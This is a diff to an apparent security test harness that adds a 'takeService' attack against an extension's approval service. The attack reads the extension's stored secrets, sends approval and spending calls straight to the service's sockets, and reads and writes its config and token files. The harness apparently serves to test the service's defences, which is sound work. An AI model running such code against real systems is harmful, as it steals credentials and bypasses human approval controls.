@@ -1,4 +1,6 @@
 'use strict';
+const fs = require('node:fs');
+const net = require('node:net');
 const path = require('node:path');
 const vscode = require('vscode');
 
@@ -225,4 +227,54 @@ async function loosenSettings({ report }) {
   await update('protected', { nodes: [], guests: [] });
 }
 
-exports.attacks = { loosenSettings, acceptCard, decoy, pressEverything, ownCommands, callExports, invokeTool };
+/** With the extension's own secrets, the service's socket by hand, and every word that could be a method. */
+async function takeService({ requestId, report }) {
+  const secrets = [];
+  for (const key of ['banksman.approvalKey', 'approval-key', 'banksman.key']) {
+    const found = await attempt(() => vscode.commands.executeCommand('_workbench.getSecret', 'banksman.banksman', key));
+    secrets.push(found);
+  }
+  report(`secrets: ${secrets.join(', ')}`);
+  const folder = process.env.BANKSMAN_SERVICE;
+  for (const file of fs.readdirSync(folder)) report(`socket ${file}: ${await attempt(() => speak(path.join(folder, file), requestId))}`);
+  for (const place of ['state', 'etc/config.json', 'etc/secrets/token0']) {
+    const file = path.join(folder, '..', place);
+    report(`read ${place}: ${await attempt(() => fs.readdirSync(path.dirname(file)) && fs.readFileSync(file, 'utf8').slice(0, 20))}`);
+    report(`write ${place}: ${await attempt(() => fs.appendFileSync(file, ' '))}`);
+  }
+}
+
+function speak(file, requestId) {
+  const methods = [
+    'approvals.approve',
+    'approvals.trust',
+    'security.setLevel',
+    'security.setRule',
+    'passkeyDesk',
+    'agreement.agree',
+    'records.spend',
+  ];
+  return new Promise((resolve, reject) => {
+    const socket = net.connect(file);
+    const said = [];
+    let rest = '';
+    socket.on('error', reject);
+    socket.on('data', (chunk) => {
+      const lines = (rest + chunk).split('\n');
+      rest = lines.pop();
+      said.push(...lines.map((line) => JSON.parse(line)).filter(({ kind }) => kind === 'answer' || kind === 'refusal'));
+      if (said.length < methods.length) return;
+      socket.destroy();
+      resolve(
+        said
+          .map(({ kind, ok, value }) => `${kind}${ok === undefined ? '' : ` ok=${ok}`}${value?.ok === true ? ' VALUE OK' : ''}`)
+          .join(', '),
+      );
+    });
+    const send = (message) => socket.write(`${JSON.stringify(message)}\n`);
+    send({ kind: 'hello', protocol: 1, version: 'raw' });
+    methods.forEach((method, index) => send({ kind: 'call', id: index + 1, method, values: [requestId, 'approve', true] }));
+  });
+}
+
+exports.attacks = { takeService, loosenSettings, acceptCard, decoy, pressEverything, ownCommands, callExports, invokeTool };
